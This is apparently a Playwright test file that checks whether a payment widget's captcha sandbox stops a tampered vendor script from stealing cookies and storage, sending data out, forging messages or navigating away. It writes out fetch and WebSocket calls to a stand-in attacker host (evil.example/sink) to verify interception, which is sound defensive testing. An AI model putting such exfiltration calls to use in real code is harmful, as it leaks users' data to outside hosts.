import type { Page } from '@playwright/test';
import { test as base, expect } from '../fixtures/test';
import { CaptchaDialog } from '../pages/CaptchaDialog';
import { ProviderPage } from '../pages/ProviderPage';
import { text } from '../pages/texts';
import { foreignUrl, sandboxUrl } from '../sandboxAddress';

const test = base.extend<{ captcha: CaptchaDialog; arrived: string[] }>({
  captcha: async ({ widget }, use) => use(new CaptchaDialog(widget)),
  /** The requests and sockets that reached a host which the captcha may not talk to. */
  arrived: async ({ context, page }, use) => {
    const arrived: string[] = [];
    await context.route(/^https?:.*\/sink/, (route) => {
      arrived.push(route.request().url());
      return route.fulfill({ body: 'stolen', headers: { 'Access-Control-Allow-Origin': '*' } });
    });
    page.on('websocket', (socket) => arrived.push(socket.url()));
    await use(arrived);
  },
});

/** A method without a captcha, and an amount for which the server demands one. */
const method = 'mifinity';
const asksForCaptcha = '25.16';

/** Runs the tampered vendor script, which sends to `sink`, and puts secrets where it looks for them. */
const hostile = (sink: string) => ({
  captcha: { geetest: { id: sink, scripts: ['/sandbox/captcha/hostile.js'] } },
});

const putSecrets = (page: Page) =>
  Promise.all(
    page.frames().map((frame) =>
      frame.evaluate(() => {
        sessionStorage.setItem('secret', 'secret-session');
        localStorage.setItem('secret', 'secret-local');
        // biome-ignore lint/suspicious/noDocumentCookie: the attacker reads cookies in the same way.
        document.cookie = 'secret=secret-cookie';
      }),
    ),
  );

test('requests that may leave are seen by these tests', async ({ page, arrived }) => {
  await page.goto('about:blank');
  await page.evaluate(async () => {
    await fetch('https://evil.example/sink?by=fetch');
    new WebSocket('wss://evil.example/sink?by=socket');
  });
  await expect.poll(() => arrived).toHaveLength(2);
});

for (const [name, sink] of [
  ['a host that is not listed', 'https://evil.example/sink'],
  ['the widget’s own origin', `${sandboxUrl}/sink`],
  ['a host’s origin', `${foreignUrl}/sink`],
] as const) {
  test(`a tampered vendor script reads nothing of the widget and its host, and sends nothing to ${name}`, async ({
    openForm,
    operator,
    context,
    page,
    host,
    widget,
    form,
    captcha,
    arrived,
  }) => {
    const player = await openForm(method, { payload: hostile(sink) });
    await form.expectShown();
    await putSecrets(page);
    const [helper] = await Promise.all([context.waitForEvent('page'), form.pay(asksForCaptcha)]);
    await expect(captcha.dialog).toBeVisible();
    const root = captcha.frame.locator('html');
    await expect(root).toHaveAttribute('data-stolen');
    const pages = context.pages().length;
    await captcha.press('Try again with a press');

    const stolen: { name: string; found: string }[] = JSON.parse(
      (await root.getAttribute('data-stolen')) ?? '',
    );
    const tried = (await root.getAttribute('data-tried'))?.split('\n') ?? [];
    expect(tried.length, 'the script has run to its end').toBeGreaterThan(100);
    expect(stolen).toEqual([]);
    expect(context.pages(), 'it opens no windows').toHaveLength(pages);
    expect(arrived).toEqual([]);

    // The messages that the script forged changed nothing.
    await expect(widget.container).toHaveAttribute('data-theme', 'light');
    expect(await host.messages('Close')).toEqual([]);
    expect(await host.messages('Redirect')).toEqual([]);
    expect(JSON.stringify(await host.messages())).not.toContain('forged');

    await captcha.press('Pass');
    await new ProviderPage(helper).expectShown();
    const calls = await operator.requests('BANKING/deposit-create');
    expect(calls.map(({ headers }) => headers.authorization)).toEqual(
      calls.map(() => `Bearer ${player.token}`),
    );
    expect(calls[1]?.payload).toMatchObject({ geetestPassToken: 'hostile-pass', amount: 25.16 });
    expect(arrived).toEqual([]);
  });
}

for (const exit of ['address', 'link', 'download', 'refresh']) {
  test(`a tampered vendor script cannot take its frame elsewhere by ${exit}, and the player gets another captcha`, async ({
    openForm,
    operator,
    form,
    captcha,
    arrived,
  }) => {
    await openForm(method, { payload: hostile('https://evil.example/sink') });
    await form.pay(asksForCaptcha);
    await expect(captcha.dialog).toBeVisible();
    await captcha.press(`Leave by ${exit}`);
    await expect(captcha.dialog).toContainText(text('captcha.network'));
    expect(arrived).toEqual([]);
    await captcha.press('Pass');
    await captcha.expectGone();
    await expect.poll(async () => (await operator.requests('BANKING/deposit-create')).length).toBe(2);
  });
}
